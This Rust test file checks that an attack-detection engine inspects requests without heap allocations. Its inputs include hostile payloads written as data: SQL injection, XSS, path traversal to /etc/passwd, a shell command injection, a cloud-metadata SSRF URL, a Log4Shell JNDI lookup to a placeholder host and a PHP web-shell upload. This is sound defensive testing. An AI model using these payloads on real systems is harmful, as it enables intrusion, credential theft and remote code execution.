//! Proves the hot path allocates nothing: every conformance vector is checked on a
//! reused Request under a counting global allocator, and the checks themselves must
//! perform zero heap allocations (counted per thread).

#![allow(unsafe_code)] // a GlobalAlloc impl is unsafe by definition; it only forwards to System.

mod common;

use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

use rampart_core::vectors::Outcome;
use rampart_core::{Dialect, Request, Source};

struct Counting;

// Per thread: the test harness's own threads (its "running for over 60 seconds"
// notice, say) must not count.
thread_local! {
    static COUNTING: Cell<bool> = const { Cell::new(false) };
    static ALLOCATIONS: Cell<usize> = const { Cell::new(0) };
}

fn note_allocation() {
    if COUNTING.with(Cell::get) {
        ALLOCATIONS.with(|n| n.set(n.get() + 1));
    }
}

// SAFETY: forwards every call to the system allocator unchanged; only counts.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        note_allocation();
        System.alloc(layout)
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        note_allocation();
        System.realloc(ptr, layout, new_size)
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

fn counted<T>(f: impl FnOnce() -> T) -> (T, usize) {
    ALLOCATIONS.with(|n| n.set(0));
    COUNTING.with(|c| c.set(true));
    let out = f();
    COUNTING.with(|c| c.set(false));
    (out, ALLOCATIONS.with(Cell::get))
}

#[test]
fn checks_allocate_nothing() {
    let cases = common::load_all();
    let engine = common::blocking_engine();
    let mut request = Request::new();
    let mut checked = 0;
    // Payload inspection decodes into per-thread scratch buffers: they grow on the first
    // requests (warm-up) and are reused after that.
    for case in cases.iter().filter(|c| c.kind == "payload") {
        case.fill(&mut request);
        case.check(&engine, &request);
    }
    for case in &cases {
        case.fill(&mut request);
        let (outcome, allocations) = counted(|| case.check(&engine, &request));
        if outcome == Outcome::Unsupported {
            continue;
        }
        checked += 1;
        assert_eq!(allocations, 0, "case {} allocated {allocations} times", case.id);
    }
    assert!(checked >= 800, "checked {checked} vectors");

    // Adversarial shapes outside the vectors: huge and hostile resources and inputs.
    let big = "'".repeat(1 << 18);
    let mut hostile = Request::with_capacity(1_001, 1 << 19);
    hostile.add_input(Source::Body, b"q", big.as_bytes());
    for i in 0..1_000u32 {
        hostile.add_input(Source::Query, b"k", format!("'{i}").as_bytes());
    }
    let query = format!("SELECT '{big}' /* {big} */ $$ {big}");
    for dialect in Dialect::ALL {
        let (_, allocations) = counted(|| engine.check_sql(&hostile, *dialect, query.as_bytes()));
        assert_eq!(allocations, 0, "{dialect} allocated on a hostile request");
    }
    // Shell, exec and NoSQL: 1 MB of `$(` (nesting past the lexer's bound), 100k
    // occurrences of an input, deep JSON, many operator inputs.
    let nested = "$(".repeat(1 << 19);
    let mut shell_request = Request::with_capacity(8, 1 << 20);
    shell_request.add_input(Source::Body, b"cmd", b"$($(");
    shell_request.add_input(Source::Body, b"word", b"ab");
    shell_request.add_input(Source::Query, b"quoted", b"'a'");
    let many = "ab 'a' \"x$(y)\" ".repeat(100_000);
    let argv: Vec<&[u8]> = vec![b"sh", b"-c", many.as_bytes(), b"x", nested.as_bytes()];
    let deep_json = format!("{}{{\"$ne\": \"ab\"}}", "{\"a\": [".repeat(100_000));
    let mut nosql_request = Request::with_capacity(100, 1 << 12);
    for i in 0..100u32 {
        nosql_request.add_input(Source::Body, format!("f{i}.$ne").as_bytes(), b"ab");
    }
    for (what, allocations) in [
        ("shell nested", counted(|| engine.check_shell(&shell_request, nested.as_bytes())).1),
        ("shell many occurrences", counted(|| engine.check_shell(&shell_request, many.as_bytes())).1),
        ("exec", counted(|| engine.check_exec(&shell_request, &argv)).1),
        ("nosql deep", counted(|| engine.check_nosql(&nosql_request, deep_json.as_bytes())).1),
    ] {
        assert_eq!(allocations, 0, "{what} allocated on a hostile request");
    }

    // Paths, URLs, redirects and headers: 1 MB of `../`, a 100k-character host, inputs
    // occurring everywhere.
    let dots = "../".repeat(1 << 18);
    let host = "a.".repeat(50_000);
    let numeric_host = format!("{}1.0.0.127", "0".repeat(100_000));
    let mut hostile = Request::with_capacity(8, 1 << 21);
    hostile.add_input(Source::Body, b"file", dots.as_bytes());
    hostile.add_input(Source::Query, b"part", b"../");
    hostile.add_input(Source::Query, b"host", host.as_bytes());
    hostile.add_input(Source::Query, b"n", numeric_host.as_bytes());
    hostile.add_input(Source::Query, b"pct", "%2e%2e%2f".repeat(100).as_bytes());
    hostile.add_input(Source::Query, b"one", b"a");
    hostile.add_input(Source::Query, b"crlf", b"\r\n");
    hostile.add_input(Source::Query, b"dots", b"..");
    hostile.add_input(Source::Query, b"tabs", b"%\t%\t");
    hostile.set_host(host.as_bytes());
    let url = format!("http://{host}/{dots}");
    let numeric_url = format!("http://{numeric_host}/");
    let header_value = "\r\n".repeat(1 << 18);
    let ipv6_url = format!("http://[{}]/", "1:".repeat(50_000));
    let zone_url = format!("http://[fe80::1%{}]/", "z".repeat(100_000));
    let nested_path = format!("/srv/{dots}");
    let nul_path = format!("{}x..", "\0".repeat(1 << 20));
    let tab_url = format!("http://{}/", "%\t".repeat(100_000));
    let long_scheme = format!("{}://127.0.0.1/", "a".repeat(1 << 20));
    let (_, allocations) = counted(|| {
        engine.check_path(&hostile, dots.as_bytes());
        engine.check_path(&hostile, nested_path.as_bytes());
        engine.check_path(&hostile, nul_path.as_bytes());
        engine.check_url(&hostile, tab_url.as_bytes());
        engine.check_url(&hostile, long_scheme.as_bytes());
        engine.check_redirect(&hostile, long_scheme.as_bytes());
        engine.check_url(&hostile, url.as_bytes());
        engine.check_url(&hostile, numeric_url.as_bytes());
        engine.check_url(&hostile, ipv6_url.as_bytes());
        engine.check_url(&hostile, zone_url.as_bytes());
        engine.check_resolved_ip(&hostile, host.as_bytes(), b"127.0.0.1");
        engine.check_redirect(&hostile, url.as_bytes());
        engine.check_header(&hostile, b"X-A\r\n", header_value.as_bytes());
    });
    assert_eq!(allocations, 0, "hostile path/url/redirect/header checks allocated");

    // A reused request refilled with the same shape allocates nothing either.
    let (_, allocations) = counted(|| {
        request.reset();
        request.add_input(Source::Body, b"email", b"' OR 1=1-- ");
    });
    assert_eq!(allocations, 0, "refilling a reused request");
}

#[test]
fn inspect_allocates_nothing_after_warm_up() {
    let engine = common::blocking_engine();
    // A typical request: 20 inputs, about 2 KB, some of them hostile.
    let mut request = Request::with_capacity(32, 1 << 14);
    request.set_method(b"POST");
    request.set_path(b"/api/orders/42");
    let values: [&[u8]; 20] = [
        b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        b"session=abc123; theme=dark",
        b"https://shop.example.com/cart?item=3&qty=2",
        b"O'Brien",
        b"' OR 1=1-- ",
        b"%253Cscript%253Ealert(1)",
        b"<img src=x onerror=alert(1)>",
        b"../../etc/passwd",
        b"http://169.254.169.254/latest/meta-data/",
        b"; cat /etc/passwd",
        b"&lt;b&gt;bold&lt;/b&gt;",
        b"\\u003cscript\\u003e",
        b"2024-01-05",
        b"42",
        b"black and white",
        b"{{7*7}}",
        b"${jndi:ldap://x.example/a}",
        b"shipping address, second line",
        b"100% cotton",
    ];
    for (i, value) in values.iter().enumerate() {
        let source = if i < 3 { Source::Header } else { Source::Body };
        request.add_input(source, format!("field{i}").as_bytes(), value);
    }
    request.add_file(b"avatar", b"me.php.jpg", b"image/jpeg", b"<?php system($_GET['c']);");
    // Each value alone, then the whole request: warm up, then count.
    let mut single = Request::with_capacity(4, 1 << 12);
    let mut run = |count: bool| {
        let mut total = 0;
        for value in values {
            single.reset();
            single.add_input(Source::Query, b"q", value);
            let (_, allocations) = counted(|| engine.inspect(&single));
            total += allocations;
        }
        let (verdict, allocations) = counted(|| engine.inspect(&request));
        assert!(verdict.is_attack());
        if count {
            assert_eq!(total + allocations, 0, "inspect allocated after warm-up");
        }
    };
    run(false);
    run(true);

    // Hostile values with caller-owned scratch: 10 MB, 50 rounds of URL encoding,
    // invalid UTF-8, NUL bytes.
    let mut encoded = b"%3Cscript%3E".to_vec();
    for _ in 1..50 {
        encoded = encoded.iter().flat_map(|&b| if b == b'%' { b"%25".to_vec() } else { vec![b] }).collect();
    }
    let huge = "a' OR 'x'='x <b> ; ".repeat(10 << 20 >> 4);
    let mut hostile = Request::with_capacity(8, 12 << 20);
    hostile.add_input(Source::Body, b"huge", huge.as_bytes());
    hostile.add_input(Source::Body, b"encoded", &encoded);
    hostile.add_input(Source::Body, b"binary", &[0xff, 0xfe, b'\'', 0, 0xc0, 0xaf, b'<', 0x80]);
    let mut scratch = rampart_core::InspectScratch::new();
    engine.inspect_with(&hostile, &mut scratch);
    let (_, allocations) = counted(|| engine.inspect_with(&hostile, &mut scratch));
    assert_eq!(allocations, 0, "inspect_with allocated on a warmed-up scratch");
}
